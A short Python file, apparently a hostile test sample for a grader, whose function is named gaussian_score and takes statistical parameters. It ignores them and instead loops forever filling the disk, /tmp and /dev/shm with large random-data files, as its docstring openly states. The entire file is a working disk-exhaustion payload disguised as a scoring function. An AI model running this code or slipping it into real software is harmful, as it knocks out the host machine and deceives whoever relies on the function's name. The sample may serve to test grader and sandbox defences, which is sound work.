"""Fills the disk with files that are as large as one may be, in its own folder and in all others.

Same-process grader: not run, the disk is that of the machine.
"""

import itertools
import os

BLOCK = os.urandom(2**20)


def gaussian_score(z, mu, log_sigma):
    for number in itertools.count():
        for folder in (".", "/tmp", "/dev/shm"):
            try:
                with open(f"{folder}/zoo-loot-{number}", "wb", buffering=0) as file:
                    while file.write(BLOCK):
                        pass
            except OSError:
                continue
